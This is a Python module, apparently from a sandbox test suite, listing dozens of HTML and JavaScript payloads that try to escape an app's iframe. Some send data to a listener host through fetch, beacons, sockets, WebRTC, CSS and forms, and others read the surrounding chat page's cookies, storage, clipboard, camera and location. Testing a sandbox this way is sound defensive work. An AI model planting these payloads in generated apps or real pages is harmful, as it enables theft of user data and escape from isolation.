"""Ways out of an app's frame, each as the HTML of an app: to a listener, or to what belongs to the page around it.

`{there}` is the listener's origin, `{udp}` its UDP port, `{host}` a name that no resolver knows, `{home}` the origin of
the chat. What a way got hold of it tells the top page by `got(…)`.
"""

from typing import Final

REPORT: Final = "<script>const got = (what) => top.postMessage({ got: String(what) }, '*')</script>"


def script(text: str) -> str:
    return f"{REPORT}<script>{text}</script>"


def made(tag: str, **attributes: str) -> str:
    """An element that a script makes, which no filter of the HTML would see."""
    sets = "".join(f"e.setAttribute({name!r}, {value!r});" for name, value in attributes.items())
    return script(f"const e = document.createElement({tag!r}); {sets} document.body.append(e)")


OUT: Final[dict[str, str]] = {
    "fetch": script("fetch('{there}/x', { mode: 'no-cors' }).then(got, () => 0)"),
    "fetch with keepalive": script("fetch('{there}/x', { mode: 'no-cors', keepalive: true }).then(got, () => 0)"),
    "fetchLater": script("try { fetchLater('{there}/x', { activateAfter: 0 }) } catch {}"),
    "XMLHttpRequest": script("const x = new XMLHttpRequest(); x.open('GET', '{there}/x'); x.send()"),
    "sendBeacon": script("navigator.sendBeacon('{there}/x', 'secret')"),
    "WebSocket": script("new WebSocket('{there}/x'.replace('http', 'ws'))"),
    "EventSource": script("new EventSource('{there}/x')"),
    "WebTransport": script("new WebTransport('https://127.0.0.1:{udp}/')"),
    "WebRTC": script(
        "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:{udp}' }] });"
        "p.createDataChannel('a'); p.createOffer().then((o) => p.setLocalDescription(o))"
    ),
    "WebRTC in a frame of its own": '<iframe srcdoc="<script>const p = new RTCPeerConnection({ iceServers: [{ urls:'
    " 'stun:127.0.0.1:{udp}' }] }); p.createDataChannel('a'); p.createOffer().then((o) => p.setLocalDescription(o))"
    '</script>"></iframe>',
    "a picture": "<img src='{there}/x'>",
    "a picture by srcset": "<picture><source srcset='{there}/x 1x'><img></picture>",
    "a picture made by a script": script("new Image().src = '{there}/x'"),
    "an svg's picture": "<svg><image href='{there}/x' width=9 height=9 /><use href='{there}/x#a' /></svg>",
    "a background": "<style>body { background: url('{there}/x') }</style>",
    "a cursor and a list's mark": "<ul style=\"cursor: url('{there}/x'), auto; list-style: url('{there}/y')\"><li>a",
    "a mask and a filter": "<p style=\"mask: url('{there}/x#a'); filter: url('{there}/y#a')\">a",
    "an imported sheet": "<style>@import '{there}/x';</style>",
    "a font": "<style>@font-face { font-family: a; src: url('{there}/x') } body { font-family: a }</style>a",
    "a linked sheet": "<link rel=stylesheet href='{there}/x'>",
    "an icon and a manifest": "<link rel=icon href='{there}/x'><link rel=manifest href='{there}/y'>",
    "prefetch": "<link rel=prefetch href='{there}/x'>",
    "preload": "<link rel=preload as=image href='{there}/x'>",
    "modulepreload": "<link rel=modulepreload href='{there}/x'>",
    "preconnect": made("link", rel="preconnect", href="{there}"),
    "dns-prefetch": made("link", rel="dns-prefetch", href="//{host}"),
    "speculation": '<script type="speculationrules">{ "prefetch": [{ "urls": ["{there}/x"], "eagerness": "immediate" }]'
    ', "prerender": [{ "urls": ["{there}/y"], "eagerness": "immediate" }] }</script>',
    "a script": "<script src='{there}/x'></script>",
    "import()": script("import('{there}/x').then(got, () => 0)"),
    "an import map": '<script type="importmap">{ "imports": { "a": "{there}/x" } }</script>'
    '<script type="module">import "a"</script>',
    "a worker": script("new Worker('{there}/x')"),
    "a worker of its own text": script(
        "new Worker(URL.createObjectURL(new Blob([\"fetch('{there}/x')\"], { type: 'text/javascript' })))"
    ),
    "a shared worker": script("new SharedWorker('{there}/x')"),
    "a worklet": script(
        "CSS.paintWorklet?.addModule('{there}/x'); new AudioContext().audioWorklet.addModule('{there}/y')"
    ),
    "a service worker": script("navigator.serviceWorker.register('{home}/x').then(got, () => 0)"),
    "a frame": "<iframe src='{there}/x'></iframe>",
    "a frame of this server": "<iframe src='{home}/x'></iframe>",
    "a frame's own script": "<iframe srcdoc=\"<script>fetch('{there}/x')</script>\"></iframe>",
    "a frame by data": "<iframe src=\"data:text/html,<script>top.postMessage({ got: 1 }, '*')</script>\"></iframe>",
    "a frame by blob": script(
        "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["
        "'<script>top.postMessage({ got: 1 }, \"*\")<\\/script>'], { type: 'text/html' })); document.body.append(f)"
    ),
    "an object and an embed": "<object data='{there}/x'></object><embed src='{there}/y'>",
    "sound and film": "<audio src='{there}/x' autoplay></audio><video poster='{there}/y' src='{there}/z'>"
    "<track src='{there}/t' default></video>",
    "a form": "<form action='{there}/x' method=post><input name=a value=secret></form>"
    + script("document.forms[0].submit()"),
    "a form to the whole window": "<form action='{there}/x' target=_top></form>" + script("document.forms[0].submit()"),
    "a picture's button": "<form><input type=image src='{there}/x'></form>",
    "a window": script("got(window.open('{there}/x') ? 'window' : '')"),
    "a link to a window": "<a href='{there}/x' target=_blank></a>" + script("document.links[0].click()"),
    "a link with a ping": "<a href='#a' ping='{there}/x'>a</a>" + script("document.links[0].click()"),
    "a download": "<a href='{there}/x' download>a</a>" + script("document.links[0].click()"),
    "its own address": script("location = '{there}/x'"),
    "its own address, by a name": script("location = 'http://{host}/'"),
    "its own address, by a link": "<a href='{there}/x'>a</a>" + script("document.links[0].click()"),
    "a refresh": "<meta http-equiv=refresh content='0; url={there}/x'>",
    "the chat's address": script("try { top.location = '{there}/x'; got('top') } catch {}"),
    "the frame's address": script("try { parent.location = '{there}/x'; got('parent') } catch {}"),
    "the frame's address, in place": script("try { parent.location.replace('{home}/sandbox#x'); got(1) } catch {}"),
    "history": script("history.back(); history.go(-2); history.pushState(0, '', '#a')"),
    "a base": "<base href='{there}/'><img src=x>" + script("fetch('/y').catch(() => 0)"),
    "a looser policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
    "<img src='{there}/x'>",
    "a policy that reports": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; "
    "report-uri {there}/x\"><img src='data:,'>",
    "a whole document written": script("document.open(); document.write(\"<img src='{there}/x'>\"); document.close()"),
    "markup in a template": '<div><template shadowrootmode="open"><img src="{there}/x"><style>@import "{there}/y"'
    "</style></template></div>",
    "this server": script("fetch('{home}/api/v1/me', { credentials: 'include' }).then(got, () => 0)"),
    "this server's picture": "<img src='{home}/x'><script src='{home}/y'></script>",
}
"""Each tries to send something somewhere."""

IN: Final[dict[str, str]] = {
    "the chat's document": script("try { got(top.document.title) } catch {}"),
    "the frame's document": script("try { got(parent.document.title) } catch {}"),
    "the frame's element": script("try { got(frameElement ?? '') } catch {}"),
    "cookies": script("try { got(document.cookie) } catch {}"),
    "local storage": script("try { got(localStorage.secret) } catch {}"),
    "session storage": script("try { got(sessionStorage.length) } catch {}"),
    "databases": script("try { indexedDB.open('a').onsuccess = () => got('opened') } catch {}"),
    "caches": script("try { caches.open('a').then(got, () => 0) } catch {}"),
    "private files": script("try { navigator.storage.getDirectory().then(got, () => 0) } catch {}"),
    "a channel": script("new BroadcastChannel('secret').onmessage = () => got('heard')"),
    "a lock": script("try { navigator.locks.request('secret', () => got('locked')).catch(() => 0) } catch {}"),
    "the clipboard": script("try { navigator.clipboard.readText().then(got, () => 0) } catch {}"),
    "the camera": script("try { navigator.mediaDevices.getUserMedia({ video: true }).then(got, () => 0) } catch {}"),
    "the place": script("try { navigator.geolocation.getCurrentPosition(got) } catch {}"),
    "a dialog": script("alert(1); if (confirm('a') || prompt('b')) got('asked'); print()"),
    "the whole screen": script("try { document.documentElement.requestFullscreen().then(got, () => 0) } catch {}"),
    "the pointer": script("try { document.documentElement.requestPointerLock()?.then(got, () => 0) } catch {}"),
    "code from text": script("try { got(eval('1')) } catch {} try { got(new Function('return 2')()) } catch {}"),
}
"""Each tries to get something that is not its own."""
